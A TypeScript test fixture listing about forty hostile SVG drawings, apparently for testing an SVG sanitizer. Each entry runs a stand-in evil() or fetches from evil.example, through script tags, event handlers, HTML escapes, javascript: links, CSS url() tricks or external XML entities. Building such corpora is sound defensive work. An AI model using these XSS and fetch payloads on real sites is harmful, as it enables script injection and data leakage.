/**
 * Drawings that run `evil()` or ask for something from `https://evil.example`, by what does so. `acts` marks those that do it in a
 * Chromium of today as soon as their markup is in a page without a policy, which a test holds them to.
 */
export const HOSTILE: Readonly<Record<string, { svg: string, acts?: 'runs' | 'asks' }>> = {
  'a script': { svg: drawing('<script>evil()</script>') },
  'a script by another prefix': { svg: '<x:svg xmlns:x="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><x:script>evil()</x:script></x:svg>' },
  'a script in CDATA': { svg: drawing('<script><![CDATA[evil()]]></script>') },
  'a script with an address': { svg: drawing('<script href="https://evil.example/a.js"/>') },
  'onload on the root': { svg: '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" onload="evil()"/>', acts: 'runs' },
  'onload in capitals': { svg: '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" ONLOAD="evil()"/>', acts: 'runs' },
  'onload inside': { svg: drawing('<svg onload="evil()"/>'), acts: 'runs' },
  'onclick': { svg: drawing('<rect onclick="evil()" width="9" height="9"/>') },
  'onbegin of an animation': { svg: drawing('<animate onbegin="evil()" attributeName="x" dur="1s"/>'), acts: 'runs' },
  'onerror of an image': { svg: drawing('<image href="nowhere:" onerror="evil()"/>'), acts: 'runs' },
  'HTML in foreignObject': { svg: drawing('<foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="nowhere:" onerror="evil()"/></foreignObject>'), acts: 'runs' },
  'HTML that ends the drawing': { svg: drawing('<p/><img src="nowhere:" onerror="evil()"/>'), acts: 'runs' },
  'HTML in a title': { svg: drawing('<title><img src="nowhere:" onerror="evil()"/></title>'), acts: 'runs' },
  'HTML in a desc, as CDATA': { svg: drawing('<desc><![CDATA[<img src=nowhere: onerror=evil()>]]></desc>') },
  'HTML as text of a text': { svg: drawing('<text>&lt;/text>&lt;/svg>&lt;img src=nowhere: onerror=EVIL()></text>') },
  'HTML in a style': { svg: drawing('<style>&lt;/style>&lt;img src=nowhere: onerror=evil()></style>') },
  'HTML in the name of an id': { svg: drawing('<g id="&quot;>&lt;img src=nowhere: onerror=evil()>"/><use href="#&quot;>&lt;img src=nowhere: onerror=evil()>"/>') },
  'HTML in an attribute': { svg: drawing('<path d="&quot;>&lt;img src=nowhere: onerror=EVIL()>"/>') },
  'an iframe': { svg: drawing('<iframe srcdoc="&lt;script>parent.evil()&lt;/script>"/>') },
  'an iframe with an address': { svg: drawing('<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/></foreignObject>'), acts: 'asks' },
  'a handler element': { svg: drawing('<handler type="text/javascript">evil()</handler>') },
  'a link to code': { svg: drawing('<a href="javascript:evil()"><text y="9">Click</text></a>') },
  'a link to code by xlink': { svg: drawing('<a xlink:href=" java&#10;script:evil()"><text y="9">Click</text></a>') },
  'a link that an animation gives its address': { svg: drawing('<a><animate attributeName="href" values="javascript:evil()"/><text y="9">Click</text></a>') },
  'a link that a set gives its address': { svg: drawing('<a><set attributeName="xlink:href" to="javascript:evil()"/><text y="9">Click</text></a>') },
  'an image': { svg: drawing('<image href="https://evil.example/a.png" width="9" height="9"/>'), acts: 'asks' },
  'an image by xlink': { svg: drawing('<image xlink:href="//evil.example/a.png" width="9" height="9"/>'), acts: 'asks' },
  'an image by a prefix of its own': { svg: '<svg xmlns="http://www.w3.org/2000/svg" xmlns:l="http://www.w3.org/1999/xlink" viewBox="0 0 9 9"><image l:href="https://evil.example/a.png"/></svg>' },
  'an image that is an SVG': { svg: drawing('<image href="data:image/svg+xml,&lt;svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'evil()\'/>"/>') },
  'an image of a filter': { svg: drawing('<filter id="f"><feImage href="https://evil.example/a.png"/></filter><rect filter="url(#f)" width="9" height="9"/>'), acts: 'asks' },
  'a use of another file': { svg: drawing('<use href="https://evil.example/a.svg#x"/>') },
  'a use of a data address': { svg: drawing('<use href="data:image/svg+xml,&lt;svg id=\'x\' onload=\'evil()\'/>#x"/>') },
  'a sheet that imports': { svg: drawing('<style>@import url(https://evil.example/a.css);</style>'), acts: 'asks' },
  'a sheet with a font': { svg: drawing('<style>@font-face { font-family: Evil; src: url("https://evil.example/a.woff2") } text { font-family: Evil }</style><text y="9">a</text>'), acts: 'asks' },
  'a sheet that draws on the page': { svg: drawing('<style>body { background: url(https://evil.example/a.png) }</style>'), acts: 'asks' },
  'a sheet before the drawing': { svg: '<?xml-stylesheet href="https://evil.example/a.css"?>\n<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"/>' },
  'a mask': { svg: drawing('<rect mask="url(https://evil.example/a.svg#m)" width="9" height="9"/>'), acts: 'asks' },
  'a mask, spelled in another way': { svg: drawing('<rect mask="u\\72 l(https://evil.example/a.svg#m)" width="9" height="9"/>'), acts: 'asks' },
  'a cursor': { svg: drawing('<rect cursor="url(https://evil.example/a.png), auto" width="9" height="9"/>') },
  'a style with an address': { svg: drawing('<rect style="fill: red; mask: url(https://evil.example/a.svg#m)" width="9" height="9"/>'), acts: 'asks' },
  'a style with an image-set': { svg: drawing('<rect style="mask-image: image-set(\'https://evil.example/a.png\' 1x)" width="9" height="9"/>') },
  'an entity': { svg: '<!DOCTYPE svg [<!ENTITY e "&#60;script>evil()&#60;/script>">]>\n<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9">&e;</svg>' },
  'an entity from elsewhere': { svg: '<!DOCTYPE svg [<!ENTITY e SYSTEM "https://evil.example/a.txt">]>\n<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><text>&e;</text></svg>' },
  'an element for the page\'s own scripts': { svg: drawing('<g data-island="EvilPlayer" data-props="{}" class="evil"><rect id="evil" width="9" height="9"/></g>') }
}

function drawing(inside: string): string {
  return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9">\n  ${inside}\n</svg>`
}
